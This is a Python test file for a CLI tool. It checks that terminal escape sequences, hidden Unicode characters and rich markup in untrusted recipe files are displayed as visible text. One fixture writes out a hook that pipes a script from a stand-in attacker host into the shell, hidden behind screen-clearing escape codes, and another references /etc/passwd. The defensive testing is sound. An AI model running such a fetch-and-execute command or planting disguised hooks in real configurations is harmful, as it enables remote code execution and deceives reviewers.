"""Stranger strings on a real terminal: the CLI runs in a pseudo-terminal (so rich believes it
is on a terminal and colours its output), and what it writes is fed to a terminal emulator
(pyte). The screen, as a person would read it, must show every escape spelled out (`\\x1b[2J`
as text, `\\u202e`, `\\u200b`), must not be cleared or redrawn by the recipe, and no recipe
text is read as rich markup."""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pyte
import pytest
import yaml
from support import invoke_cli

COLUMNS, LINES = 100, 60
ESC_HOOK = ("curl -s https://attacker.example/x.sh | sh #\x1b[H\x1b[2J"
            "- hooks.custom.warm: runs the custom hook command `sync` on every node")


def _recipe(folder: Path, **fields: Any) -> Path:
    data = {"name": "hostile", "model": {"id": "m", "source": "tiny"}, **fields}
    path = folder / "hostile.yaml"
    # safe_dump writes ESC and the other hidden characters as YAML escapes ("\e", "\u202E")
    path.write_text(yaml.safe_dump(data, allow_unicode=False, width=1 << 20))
    return path


def on_screen(*args: str, env: dict[str, str] | None = None) -> tuple[list[str], int]:
    """Run the real `sm121` in a pseudo-terminal of COLUMNS x LINES and return the emulated
    screen's lines (stdout and stderr both reach it, as on a person's terminal), and the
    exit status."""
    screen = pyte.Screen(COLUMNS, LINES)
    stream = pyte.ByteStream(screen)
    leader, follower = pty.openpty()
    environ = {**os.environ, "COLUMNS": str(COLUMNS), "LINES": str(LINES),
               "TERM": "xterm-256color", **(env or {})}
    environ.pop("NO_COLOR", None)
    process = subprocess.Popen([sys.executable, "-m", "sm121.cli.main", *args],
                               stdin=follower, stdout=follower, stderr=follower, env=environ,
                               close_fds=True)
    os.close(follower)
    deadline = time.monotonic() + 300
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([leader], [], [], 1.0)
            if ready:
                try:
                    data = os.read(leader, 65536)
                except OSError:  # the follower closed: the process has ended
                    break
                if not data:
                    break
                stream.feed(data)
            elif process.poll() is not None:
                break
    finally:
        os.close(leader)
        code = process.wait(timeout=60)
    return [line.rstrip() for line in screen.display], code


def _text(lines: list[str]) -> str:
    """The screen as one string without blanks: a line wrapped at the edge (at a space, or
    mid-word) reads whole. Compare with `_bare(needle)`."""
    return _bare("".join(lines))


def _bare(text: str) -> str:
    return "".join(text.split())


def test_plan_shows_a_hooks_escape_sequence_on_a_terminal(tmp_path: Path) -> None:
    """The issue's High: `ESC[H ESC[2J` and a fake list in a custom hook. The screen keeps
    the plan (not cleared) and shows the escape as text in the trust list."""
    recipe = _recipe(tmp_path, hooks={"before_serve": ["warm"], "custom": {"warm": ESC_HOOK}})
    lines, code = on_screen("plan", str(recipe), "--trust")
    screen = _text(lines)
    assert code == 0, "\n".join(lines)
    assert "\\x1b[H\\x1b[2J" in screen, "\n".join(lines)
    assert _bare("curl -s https://attacker.example/x.sh") in screen
    assert lines[0].startswith("hostile profile"), "the screen was cleared:\n" + "\n".join(lines)


def test_the_refusal_shows_the_escape_on_a_terminal(tmp_path: Path) -> None:
    recipe = _recipe(tmp_path, hooks={"before_serve": ["warm"], "custom": {"warm": ESC_HOOK}})
    lines, code = on_screen("plan", str(recipe))
    screen = _text(lines)
    assert code == 2
    assert "error:" in lines[0], "\n".join(lines)
    assert "\\x1b[H\\x1b[2J" in screen and _bare("hint: read each item") in screen


@pytest.mark.parametrize(("hidden", "spelled"), [
    ("\u202e", "\\u202e"),  # right-to-left override: reverses what follows
    ("\u200b", "\\u200b"),  # zero width space
    ("\u2066", "\\u2066"),  # left-to-right isolate
    ("\x9b", "\\x9b"),  # C1 CSI: an escape sequence in one byte
    ("\x7f", "\\x7f"),  # DEL
    ("\x08", "\\x08"),  # backspace: would erase the character before it
    ("\r", "\\r"),  # carriage return: would overwrite the line from its start
])
def test_hidden_characters_in_a_purpose_are_spelled_out_on_screen(
        hidden: str, spelled: str, tmp_path: Path) -> None:
    recipe = _recipe(tmp_path, description=f"safe{hidden}evil",
                     env={"NCCL_DEBUG": f"WARN{hidden}x"})
    lines, code = on_screen("plan", str(recipe), "--trust")
    screen = _text(lines)
    assert code == 0, "\n".join(lines)
    assert f"safe{spelled}evil" in screen, "\n".join(lines)


def test_a_description_that_is_markup_plans(tmp_path: Path) -> None:
    """`description: "[/bold]"` crashed plan with rich's MarkupError."""
    recipe = _recipe(tmp_path, description="[/bold] [link=file:///etc/passwd]x[/link] [red")
    result = invoke_cli("plan", str(recipe), check=False, env={"COLUMNS": "100"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "[/bold] [link=file:///etc/passwd]x[/link] [red" in result.stdout


def test_a_250_kb_description_plans_about_as_fast_as_a_short_one(tmp_path: Path) -> None:
    """rich's highlighter took minutes on a 250 KB description; the printer cuts it (with a
    marker) and never highlights it. A generous ratio, against the same plan with a short
    description (the first run warms the imports)."""
    short = _recipe(tmp_path, description="short")
    invoke_cli("plan", str(short))

    def seconds(description: str) -> tuple[float, str]:
        path = _recipe(tmp_path, description=description)
        began = time.perf_counter()
        result = invoke_cli("plan", str(path))
        return time.perf_counter() - began, result.stdout

    small, _ = seconds("short")
    large, out = seconds("x(" * 125_000)
    assert large < 5 * small + 1.0, (small, large)
    assert "more characters)" in out and len(out) < 20_000


def test_an_error_message_shows_hidden_characters_and_no_markup(tmp_path: Path) -> None:
    """A refusal names a stranger's field (here an unknown key, named as it is in the file):
    on a terminal its ESC is spelled out and its markup stays text."""
    recipe = _recipe(tmp_path, **{"[/bold]\x1b[2J\x1b]0;title\x07": 1})
    lines, code = on_screen("plan", str(recipe))
    screen = _text(lines)
    assert code == 2 and "unknownfield" in screen, "\n".join(lines)
    assert _bare("[/bold]\\x1b[2J\\x1b]0;title\\x07") in screen, "\n".join(lines)


def test_escape_spells_out_each_hidden_class_and_bounds_the_length() -> None:
    from sm121.display import escape, quoted

    assert escape("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert escape("\x00\x1f\x7f\x85\x9f") == "\\x00\\x1f\\x7f\\x85\\x9f"
    assert escape("\u202a\u202e\u2066\u2069\u200b\u200d\ufeff\u2028") == (
        "\\u202a\\u202e\\u2066\\u2069\\u200b\\u200d\\ufeff\\u2028")
    assert escape("\U000e0041") == "\\U000e0041"  # a tag character (invisible)
    assert escape("line\nnext") == "line\\nnext"
    assert escape("line\nnext", keep_newlines=True) == "line\nnext"
    assert escape("ünïcödé 漢字 ok") == "ünïcödé 漢字 ok"
    cut = escape("x" * 1000, limit=10)
    assert cut == "x" * 10 + "…(990 more characters)"
    # exact: a typed backslash sequence and the real character read differently
    assert quoted("\\x1b") != quoted("\x1b")
